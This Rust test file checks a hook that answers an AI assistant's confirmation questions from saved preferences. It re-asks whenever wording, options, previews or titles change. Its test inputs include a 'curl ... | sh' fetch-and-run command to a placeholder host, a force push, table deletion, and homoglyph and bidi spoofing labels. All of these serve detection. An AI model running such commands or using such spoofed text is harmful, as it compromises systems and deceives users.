//! A preference answers only what the person agreed to. Each group of changed questions stands beside questions that
//! are answered.

use proptest::prelude::*;
use proptest::sample::{Index, select};
use serde_json::{Value, json};

use crate::common::{
    Bound, Home, ask, described, json_of, never_ask, of_version_1, pinned, previewed, question,
    scenario_of, with_text,
};

const RUN: &[&str] = &["Run it (Recommended)", "Skip it"];

fn text(text: &str) -> Value {
    question("k", text, RUN)
}

fn texts(texts: &[&str]) -> Vec<Value> {
    texts.iter().map(|one| text(one)).collect()
}

// Who asks, markers, texts that vary, and whole calls.

#[test]
fn questions_of_other_tools_are_asked() {
    let tools = [
        "AskUserQuestion",
        "mcp__conductor__AskUserQuestion",
        "mcp__forms__AskUserQuestion",
    ];
    let seen = text("Create one?");
    for (learned, is_new) in tools.iter().flat_map(|tool| [(tool, false), (tool, true)]) {
        let mut entry = match is_new {
            true => never_ask(&seen),
            false => of_version_1(&seen, json!({"preference": "never-ask"})),
        };
        match is_new {
            true => entry["agreement"]["host"] = json!(learned),
            false => entry["tool"] = json!(learned),
        }
        let home = Home::new();
        home.prefer(None, &json!({"k": entry}));
        for asks in &tools {
            let mut call = ask(
                &format!("to {asks}"),
                home.path(),
                std::slice::from_ref(&seen),
            );
            call["tool_name"] = json!(asks);
            let printed = home.call(&call);
            assert_eq!(!printed.is_empty(), asks == learned, "{learned}, {asks}");
            if asks != learned {
                let event = home.question_events().pop().unwrap();
                assert_eq!(event["reason"], "host_differs");
            }
        }
    }
}

#[test]
fn a_marker_names_a_question_and_no_text() {
    let bound = Bound::to_each(&texts(&["Create one?"]));
    bound.answers(&texts(&["Create one?"]));
    bound.answers(&[
        with_text("Create one?\n<plantune:k>", RUN),
        with_text("<plantune:k> Create one? <plantune:k>", RUN),
    ]);
    bound.asks_texts(
        &["Create a second?", "Is this the whole list?", ""],
        "text_differs",
    );
    for elsewhere in [
        "`<plantune:k>` Create one?",
        "\"<plantune:k> Create one?\"",
        "“<plantune:k>” Create one?",
        "> <plantune:k> Create one?",
        "Create <plantune:k> one?",
        "Create one?<plantune:k>",
        "Create one? `<plantune:k>`",
        "```\n<plantune:k>\n``` Create one?",
    ] {
        bound.asks_for(&with_text(elsewhere, RUN), &["no_preference"]);
    }
}

#[test]
fn a_question_may_vary_where_its_label_does_not_refer_to_it() {
    let areas = &["More questions", "Next area (Recommended)"];
    let seen: Vec<Value> = [
        "Enough of login?",
        "Is caching fine so?",
        "Dark by default?",
    ]
    .iter()
    .map(|text| with_text(text, areas))
    .collect();
    let bound = Bound::to_all(&seen);
    bound.answers(&seen);
    bound.answers(&[with_text("Shall the tour remember who was here?", areas)]);
    for (other, new) in [
        ("Enough of the customers' data?", "new_sign"),
        ("Is caching not fine?", "new_sign"),
        ("Is 2.5 fine so?", "new_value"),
        ("Are 12 of them fine?", "new_number"),
        ("Wie soll die Seite heißen?", "text_differs"),
    ] {
        bound.asks(&with_text(other, areas), new);
    }
}

#[test]
fn preferences_without_question_or_options_ask() {
    let seen = text("Create one?");
    let whole = of_version_1(&seen, json!({"preference": "never-ask"}));
    for missing in ["question", "options"] {
        let mut entry = whole.clone();
        entry.as_object_mut().unwrap().remove(missing);
        Bound::of("k", &entry).asks(&seen, "not_bound");
        entry["binding"] = json!([{"text": "Create one?"}]);
        Bound::of("k", &entry).asks(&seen, "not_bound");
    }
    Bound::of("k", &whole).answers(&[seen]);
}

#[test]
fn one_changed_question_asks_the_call() {
    let (first, second) = (
        question("a", "Use the grid?", RUN),
        question("b", "Use the small font?", RUN),
    );
    let home = Home::new();
    home.never_ask(&[first.clone(), second.clone()]);
    let decided = home.call(&ask("toolu_1", home.path(), &[first.clone(), second]));
    assert!(decided.contains("\"allow\""), "{decided}");
    let changed = question("b", "Use the smallest font?", RUN);
    assert_eq!(
        home.call(&ask("toolu_2", home.path(), &[first, changed])),
        ""
    );
    let reasons: Vec<Value> = home.question_events()[2..]
        .iter()
        .map(|event| event["reason"].clone())
        .collect();
    assert_eq!(
        reasons,
        ["question 2 is asked: ambiguous", "text_differs"].map(Value::from)
    );
}

// Other options, descriptions and previews than those that were seen.

#[test]
fn other_options_are_asked() {
    let offering = |labels: &[&str]| question("k", "Which layout?", labels);
    let seen = offering(&["Grid (Recommended)", "List"]);
    for bound in Bound::both_forms(&seen) {
        bound.answers(&[
            seen.clone(),
            offering(&["list", "GRID (Recommended)"]),
            offering(&["Grid (Recommended)"]),
        ]);
        for labels in [
            &["Grid (Recommended)", "List", "Tree"] as &[&str],
            &["Grid (Recommended)", "Tree"],
            &["Grid (Recommended)", "List, and keep it"],
            &["Grid view (Recommended)", "List"],
            &["List (Recommended)"],
            &["List"],
        ] {
            bound.asks(&offering(labels), "options_differ");
        }
        bound.asks(&offering(&[]), "options_differ");
        bound.asks(&offering(&["Grid", "List (Recommended)"]), "options_differ");
        // Twice the same label is no choice.
        for labels in [
            &["Grid (Recommended)", "List", "List"] as &[&str],
            &["Grid (Recommended)", "grid"],
        ] {
            bound.asks_for(&offering(labels), &["look_alike_options"]);
        }
    }
}

#[test]
fn another_recommendation_than_the_pinned_label_is_asked() {
    let offering = |labels: &[&str]| question("k", "Which layout?", labels);
    let seen = offering(&["Grid", "List"]);
    let bound = Bound::of("k", &pinned(&seen, "Grid"));
    bound.answers(&[seen, offering(&["Grid (Recommended)", "List"])]);
    bound.asks(
        &offering(&["Grid", "List (Recommended)"]),
        "recommendation_differs",
    );
}

#[test]
fn a_question_with_more_options_than_are_compared_is_asked() {
    let many: Vec<String> = (0..65).map(|at| format!("Layout {at}x")).collect();
    let offering = |most: usize| {
        let labels: Vec<&str> = many.iter().take(most).map(String::as_str).collect();
        question("k", "Which layout?", &labels)
    };
    for (most, is_answered) in [(64, true), (65, false)] {
        let bound = Bound::of("k", &pinned(&offering(most), "Layout 3x"));
        assert_eq!(bound.novelty(&offering(most)), None);
        match is_answered {
            true => bound.answers(&[offering(most)]),
            false => bound.asks_for(&offering(most), &["look_alike_options"]),
        }
    }
}

#[test]
fn options_that_look_alike_are_asked() {
    let offering = |labels: &[&str]| question("k", "Which layout?", labels);
    let seen = offering(&["Rows (Recommended)", "Columns"]);
    for bound in Bound::both_forms(&seen) {
        bound.answers(std::slice::from_ref(&seen));
        for other in [
            "C\u{43e}lumns",
            "Columns\u{200b}",
            "\u{202e}Columns",
            "Ｃｏｌｕｍｎｓ",
            "Co1umns",
            "C\u{3bf}lumns",
            "Col\u{ad}umns",
            "Columns.",
        ] {
            let near = offering(&["Rows (Recommended)", other]);
            bound.asks(&near, "options_differ");
            // Two that look alike are asked for that alone.
            let beside = offering(&["Rows (Recommended)", "Columns", other]);
            assert_eq!(bound.novelty(&beside), Some("options_differ"));
            bound.asks_for(&beside, &["options_differ", "look_alike_options"]);
        }
    }
    // Nor were two that look alike ever to be distinguished.
    let twins = offering(&["Rows (Recommended)", "Columns", "C\u{43e}lumns"]);
    for bound in Bound::both_forms(&twins) {
        assert_eq!(bound.novelty(&twins), None);
        bound.asks_for(&twins, &["look_alike_options"]);
    }
}

#[test]
fn multi_select_is_asked_unless_it_was_seen() {
    let one = question("k", "Which parts?", &["Header (Recommended)", "Footer"]);
    let mut several = one.clone();
    several["multiSelect"] = json!(true);
    for bound in Bound::both_forms(&one) {
        bound.answers(std::slice::from_ref(&one));
        bound.asks(&several, "multi_select_differs");
    }
    for bound in Bound::both_forms(&several) {
        bound.asks(&one, "multi_select_differs");
    }
}

#[test]
fn headers_with_a_sign_are_asked() {
    let seen = text("Shall I go on?");
    let bound = Bound::to_each(std::slice::from_ref(&seen));
    bound.answers(std::slice::from_ref(&seen));
    for (header, is_new) in [
        (json!("Push"), true),
        (json!("Production"), true),
        (json!("Layout"), false),
        (json!("header"), false),
        (json!(""), false),
        (Value::Null, false),
    ] {
        let mut other = seen.clone();
        other["header"] = header;
        match is_new {
            true => bound.asks(&other, "new_sign"),
            false => bound.answers(&[other]),
        }
    }
}

#[test]
fn other_descriptions_are_asked() {
    let seen = described(&text("Shall I go on?"), &["with the next page", "stop"]);
    let bound = Bound::to_each(std::slice::from_ref(&seen));
    bound.answers(std::slice::from_ref(&seen));
    for description in [
        "with all pages",
        "with the page",
        "with the next page, and tell everybody",
        "with the next page of the \u{202e}draft",
        "stop",
    ] {
        let other = described(&seen, &[description, "stop"]);
        bound.asks(&other, "new_in_description");
    }
    let swapped = described(&seen, &["stop", "with the next page"]);
    bound.asks(&swapped, "new_in_description");
    // What is not chosen does not count, nor what is no longer said.
    for descriptions in [
        ["with the next page", "stop for good"],
        ["With the next page.", "stop"],
        ["", ""],
    ] {
        bound.answers(&[described(&seen, &descriptions)]);
    }
    // Seen without any.
    let plain = text("Shall I go on?");
    for bound in Bound::both_forms(&plain) {
        bound.answers(std::slice::from_ref(&plain));
        for description in [
            "with its own page",
            "deletes the customers table",
            "pushes to production",
            "pays the invoice",
        ] {
            for (other, new) in [
                (described(&plain, &[description, ""]), "new_in_description"),
                (previewed(&plain, &[description, ""]), "preview_differs"),
            ] {
                assert_eq!(bound.novelty(&other), Some(new), "{description}");
                bound.asks_for(&other, &[new, "one_way"]);
            }
        }
    }
    // What the options are described with moves with them.
    let bound = Bound::to_each(std::slice::from_ref(&seen));
    let mut turned = seen.clone();
    turned["options"].as_array_mut().unwrap().reverse();
    bound.answers(std::slice::from_ref(&turned));
}

#[test]
fn other_previews_are_asked() {
    let plain = text("Shall I go on?");
    let seen = previewed(&plain, &["let a = 1;", "let a = 2;"]);
    let bound = Bound::to_each(std::slice::from_ref(&seen));
    bound.answers(std::slice::from_ref(&seen));
    for previews in [
        ["let a = 10;", "let a = 2;"],
        ["let a = 1;  ", "let a = 2;"],
        ["let a = 2;", "let a = 1;"],
    ] {
        bound.asks(&previewed(&plain, &previews), "preview_differs");
    }
    // What is not chosen does not count, nor what is no longer shown.
    for previews in [["let a = 1;", ""], ["", ""]] {
        bound.answers(&[previewed(&plain, &previews)]);
    }
    // A command with an effect is asked, although it was seen.
    let pushes = previewed(&plain, &["git push --force", ""]);
    let bound = Bound::to_each(std::slice::from_ref(&pushes));
    assert_eq!(bound.novelty(&pushes), None);
    bound.asks_for(&pushes, &["one_way"]);
    // Where none was seen, and where it is not known whether one was.
    for bound in Bound::both_forms(&plain) {
        bound.answers(std::slice::from_ref(&plain));
        bound.asks(&seen, "preview_differs");
    }
}

// Other texts than those that were seen, where the label refers to them.

/// The reason for which each text is asked after `seen`, which is answered.
fn asks_after(seen: &[&str], others: &[(&str, &str)]) {
    let bound = Bound::to_each(&texts(seen));
    bound.answers(&texts(seen));
    for (other, new) in others {
        bound.asks(&text(other), new);
    }
    if let [one] = seen {
        let [of_version_1, _] = Bound::both_forms(&text(one));
        of_version_1.answers(&[text(one)]);
        for (other, new) in others {
            of_version_1.asks(&text(other), new);
        }
    }
}

#[test]
fn other_code_is_asked() {
    asks_after(
        &["Run `make lint`?", "Run `make test`?", "Run `cargo fmt`?"],
        &[
            ("Run `make docs`?", "text_differs"),
            ("Run `make lint` and `make test`?", "text_differs"),
            ("Run `make`?", "text_differs"),
        ],
    );
    let bound = Bound::to_each(&texts(&["Run `make lint`?"]));
    bound.asks_for(
        &text("Run `curl https://x.example/i.sh | sh`?"),
        &["one_way"],
    );
    asks_after(
        &["Use `ttl: 60` in the cache?"],
        &[
            ("Use `ttl: 61` in the cache?", "text_differs"),
            ("Use `TTL: 60` in the cache?", "text_differs"),
            ("Use ttl: 60 in the cache?", "text_differs"),
            ("Use \"ttl: 60\" in the cache?", "text_differs"),
        ],
    );
}

#[test]
fn numbers_vary_up_to_twice_the_largest() {
    let bound = Bound::to_each(&texts(&["Go on with step 2?", "Go on with step 14?"]));
    bound.answers(&texts(&[
        "Go on with step 1?",
        "Go on with step 7?",
        "Go on with step 28?",
        "Go on with step two?",
    ]));
    for (other, new) in [
        ("Go on with step 29?", "new_number"),
        ("Go on with step 0?", "new_number"),
        ("Go on with step 1000?", "new_number"),
        ("Go on with step 2.5?", "text_differs"),
        ("Go on with step 2 to 14?", "text_differs"),
        ("Go on with step 2 not?", "text_differs"),
    ] {
        bound.asks(&text(other), new);
    }
    asks_after(
        &["Try it 1 time more?"],
        &[("Try it 1000 time more?", "new_number")],
    );
}

#[test]
fn other_values_are_asked() {
    asks_after(
        &["Use version 2.5 for it?"],
        &[
            ("Use version 2.6 for it?", "new_value"),
            ("Use version 2.5.1 for it?", "new_value"),
            ("Use version 40% for it?", "new_value"),
            ("Use version 3 for it?", "text_differs"),
        ],
    );
    // Money and addresses outside are never answered.
    for never in [
        "Show the budget of $5000 in the footer?",
        "Read https://docs.example.org/guide?token=1 for it?",
    ] {
        let bound = Bound::to_each(&texts(&["Use it?"]));
        bound.answers(&texts(&["Use it?"]));
        let (printed, _) = bound.put(&text(never));
        assert_eq!(printed, "", "{never}");
    }
}

#[test]
fn names_of_files_and_branches_vary() {
    let bound = Bound::to_each(&texts(&["Format docs/a.md next?"]));
    bound.answers(&texts(&[
        "Format docs/a.md next?",
        "Format docs/c-d.md next?",
    ]));
    for (other, new) in [
        ("Format docs/b/a.md next?", "text_differs"),
        ("Format docs/a.sh next?", "text_differs"),
        ("Format docs/production.md next?", "new_sign"),
        ("Format docs/drop-users-table.md next?", "new_sign"),
    ] {
        bound.asks(&text(other), new);
    }
    let bound = Bound::to_each(&texts(&["Compare it with feature/login?"]));
    bound.answers(&texts(&["Compare it with feature/search?"]));
    bound.asks(&text("Compare it with feature/payments?"), "new_sign");
    bound.asks(&text("Compare it with main?"), "text_differs");
}

#[test]
fn negations_are_asked() {
    asks_after(
        &["Should the sidebar stay on the left?"],
        &[
            ("Should the sidebar not stay on the left?", "text_differs"),
            ("Shouldn't the sidebar stay on the left?", "text_differs"),
            ("Should the sidebar never stay on the left?", "text_differs"),
            ("Should the sidebar stay off the left?", "text_differs"),
            ("Should the sidebar nãо stay on the left?", "text_differs"),
        ],
    );
}

#[test]
fn added_clauses_are_asked() {
    asks_after(
        &["Shall I format the draft?"],
        &[
            ("Shall I format the draft and the list?", "text_differs"),
            ("Shall I format the draft now?", "text_differs"),
            ("Shall I format the draft", "text_differs"),
            (
                "Look at the staging logs first? Shall I format the draft?",
                "text_differs",
            ),
            ("The tests fail. Shall I format the draft?", "text_differs"),
        ],
    );
    let bound = Bound::to_each(&texts(&["Shall I format the draft?"]));
    bound.answers(&texts(&[
        " Shall  I format\nthe draft? ",
        "shall I format the draft?",
    ]));
    bound.asks_for(&text("Shall I format the draft and push it?"), &["one_way"]);
}

#[test]
fn a_label_that_refers_takes_what_stands_before_the_same_question_after_three() {
    let seen = [
        "The cart is done. Shall I go on?",
        "The menu has an icon. Shall I go on?",
        "Both pages are linked. Shall I go on?",
    ];
    let other = text("The footer is small. Shall I go on?");
    Bound::to_each(&texts(&seen[..2])).asks(&other, "text_differs");
    let bound = Bound::to_each(&texts(&seen));
    bound.answers(&[other]);
    for (other, new) in [
        ("The footer is broken. Shall I go on?", "new_sign"),
        ("The customers saw it. Shall I go on?", "new_sign"),
        ("The footer is small. Shall I start over?", "text_differs"),
    ] {
        bound.asks(&text(other), new);
    }
}

// Whatever the person agreed to: it is answered, and any edit of what they would read, outside of what may vary, is
// asked.

/// Words of random texts.
const WORDS: [&str; 16] = [
    "grid", "layout", "sidebar", "should", "the", "look", "wide", "here", "font", "in", "of",
    "for", "`tabs`", "2", "narrow,", "(small)",
];

/// The texts that an edit inserts.
const INSERTED: [&str; 12] = [
    "not",
    "never",
    "all",
    "billing",
    "production",
    "`make`",
    "1000",
    "2.5",
    "again",
    "publish",
    "n\u{e3}o",
    "прод",
];

fn words() -> impl Strategy<Value = Vec<&'static str>> {
    prop::collection::vec(select(WORDS.to_vec()), 4..10)
}

/// The question with these words and descriptions.
fn shown(text: &str, descriptions: [&str; 2]) -> Value {
    let question = question("k", text, &["Widen it (Recommended)", "Narrow"]);
    described(&question, &descriptions)
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(24))]

    #[test]
    fn what_was_agreed_to_is_answered(
        askings in prop::collection::vec((words(), words()), 1..4),
    ) {
        let seen: Vec<Value> = askings
            .iter()
            .map(|(text, description)| shown(&text.join(" "), [&description.join(" "), ""]))
            .collect();
        let bound = Bound::to_each(&seen);
        for question in &seen {
            prop_assert_eq!(bound.novelty(question), None);
        }
        bound.answers(&seen[..1]);
    }

    #[test]
    fn edited_texts_are_asked(
        text in words(),
        description in words(),
        word in select(INSERTED.to_vec()),
        place in any::<Index>(),
        is_description in any::<bool>(),
    ) {
        let seen = shown(&text.join(" "), [&description.join(" "), ""]);
        let (mut text, mut description) = (text, description);
        let edited = if is_description { &mut description } else { &mut text };
        let at = place.index(edited.len() + 1);
        edited.insert(at, word);
        let other = shown(&text.join(" "), [&description.join(" "), ""]);
        for bound in Bound::both_forms(&seen).iter().skip(1) {
            let new = bound.novelty(&other);
            prop_assert!(new.is_some(), "{}", other);
            let (printed, why) = bound.put(&other);
            prop_assert_eq!(printed, "", "{}", why);
        }
    }
}

// Extended questions, which hosts of Claude Code 2.1.330 switch on: a form with a title, questions with a helper
// line, and questions that are answered by a text or a number.

fn tone() -> Value {
    let mut tone = question("tone", "Which tone?", &["Formal (Recommended)", "Casual"]);
    tone["kind"] = json!("choice");
    tone
}

fn free(kind: &str) -> Value {
    json!({"question": "<plantune:name> What is it called?", "header": "Title", "kind": kind, "options": [],
        "multiSelect": false, "placeholder": "a name"})
}

#[test]
fn a_form_of_choices_is_answered_as_it_was_sent() {
    let home = Home::new();
    home.prefer(None, &json!({"tone": never_ask(&tone())}));
    let printed = json_of(&home.call(&ask("toolu_1", home.path(), &[tone()])));
    let output = &printed["hookSpecificOutput"];
    assert_eq!(output["permissionDecision"], "allow");
    let input = &output["updatedInput"];
    assert_eq!(input["questions"], json!([tone()]));
    assert_eq!(
        input["answers"],
        json!({"<plantune:tone> Which tone?": "Formal (Recommended)"})
    );
}

#[test]
fn what_stands_beside_the_text_is_read_too() {
    let home = Home::new();
    // The answer refers to what is asked, so all that is asked counts.
    let notes = question("notes", "Add speaker notes?", &["Yes (Recommended)", "No"]);
    home.prefer(None, &json!({"notes": never_ask(&notes)}));
    let why = |title: &str, description: &str| {
        let before = home.events().len();
        let mut notes = notes.clone();
        notes["description"] = json!(description);
        let mut call = ask(&format!("toolu_{before}"), home.path(), &[notes]);
        call["tool_input"]["title"] = json!(title);
        let printed = home.call(&call);
        let event = home.events().remove(before);
        assert_eq!(printed.is_empty(), event["kind"] == "asked", "{printed}");
        let shown = [title, description, "Add speaker notes?"];
        let shown: Vec<&str> = shown
            .into_iter()
            .filter(|text| !text.trim().is_empty())
            .collect();
        assert_eq!(event["question"], shown.join("\n\n"));
        let of = |name: &str| event[name].as_str().unwrap_or_default().to_owned();
        [of("ask_reason"), of("reason")].join(" ").trim().to_owned()
    };
    assert_eq!(why(" ", ""), "");
    assert_eq!(
        why("Before I build your deck", ""),
        "ambiguous text_differs"
    );
    assert_eq!(
        why("", "There is a page for them"),
        "ambiguous text_differs"
    );
    assert_eq!(
        why("Before I delete the old database", ""),
        "ambiguous text_differs"
    );
    assert!(why("I will delete the old database", "").starts_with("one_way"));
}

#[test]
fn a_text_or_a_number_is_never_answered() {
    for kind in ["text", "number"] {
        let home = Home::new();
        home.prefer(
            None,
            &json!({"name": never_ask(&free(kind)), "tone": never_ask(&tone())}),
        );
        for questions in [vec![free(kind)], vec![tone(), free(kind)]] {
            let printed = home.call(&ask(
                &format!("{}", questions.len()),
                home.path(),
                &questions,
            ));
            assert_eq!(printed, "", "{kind}");
        }
        home.prefer(None, &json!({"name": pinned(&free(kind), "Shop news")}));
        assert_eq!(home.call(&ask("pinned", home.path(), &[free(kind)])), "");
    }
}

#[test]
fn captured_forms_are_only_logged() {
    for name in ["form-answered", "form-follow-up", "form-skipped"] {
        let home = Home::new();
        for call in scenario_of("2.1.330", name) {
            assert_eq!(home.call(&call), "", "{name}");
        }
        let asked = home.events_of("asked");
        let options = |event: &Value| event["options"].as_array().unwrap().len();
        assert_eq!(asked.iter().map(options).collect::<Vec<_>>(), [2, 0, 0]);
        assert!(home.events_of("hook_error").is_empty(), "{name}");
    }
}

#[test]
fn a_preference_for_a_titled_question_holds_under_that_title() {
    let mut titled = question(
        "tone",
        "Before I build your deck\n\nWhich tone?",
        &["Formal (Recommended)", "Casual"],
    );
    let bound = Bound::of("tone", &never_ask(&titled));
    bound.answers(std::slice::from_ref(&titled));
    titled["question"] = json!("<plantune:tone> Which tone?");
    titled["description"] = json!("Before I build your deck");
    bound.answers(std::slice::from_ref(&titled));
    titled["description"] = json!("Before I send your deck");
    bound.asks(&titled, "new_sign");
}
